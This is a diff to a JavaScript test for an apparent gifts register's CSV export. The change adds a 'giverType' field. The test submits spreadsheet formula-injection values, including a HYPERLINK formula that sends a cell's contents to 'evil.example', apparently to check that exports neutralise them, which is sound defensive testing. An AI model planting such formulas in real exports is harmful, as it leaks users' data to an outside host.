@@ -22,7 +22,7 @@ describe('CSV exports', () => {
     const helen = await t.signIn(demo.serviceManager);
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
     const res = await helen.submit('/registers/gifts/new', '/registers/gifts', {
-      kind: 'gift', 'offeredOn-day': '1', 'offeredOn-month': '4', 'offeredOn-year': '2026', description: '@SUM(1+1)', offeredBy: formula, value: '120', response: 'refused', reason: '-1+1',
+      kind: 'gift', 'offeredOn-day': '1', 'offeredOn-month': '4', 'offeredOn-year': '2026', description: '@SUM(1+1)', offeredBy: formula, giverType: 'organisation', value: '120', response: 'refused', reason: '-1+1',
     });
     assert.equal(res.statusCode, 303);
     const csv = await (await t.signIn('rita.registers@harbour.example')).get('/registers/reports/gifts.csv');
